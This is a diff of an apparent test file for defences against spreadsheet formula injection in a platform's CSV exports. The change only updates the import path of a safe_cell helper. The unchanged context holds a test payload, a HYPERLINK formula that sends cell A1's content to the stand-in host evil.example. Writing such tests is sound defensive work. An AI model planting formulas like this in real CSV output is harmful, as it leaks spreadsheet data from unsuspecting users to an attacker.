@@ -1,7 +1,7 @@
 """Spreadsheet formula injection (issue 10, item 6): every CSV the platform writes.
 
 Text starting with =, +, -, @, tab or CR gets a leading single quote; numbers stay numbers
-(cobbler_site.csv_safety). The writers: the report's CSV zip, the submissions export of the
+(cobbler_site.foundation.csv_safety). The writers: the report's CSV zip, the submissions export of the
 researcher page and of the API.
 """
 
@@ -30,7 +30,7 @@ from annotations.models import (
     Submission,
     Task,
 )
-from cobbler_site.csv_safety import safe_cell
+from cobbler_site.foundation.csv_safety import safe_cell
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
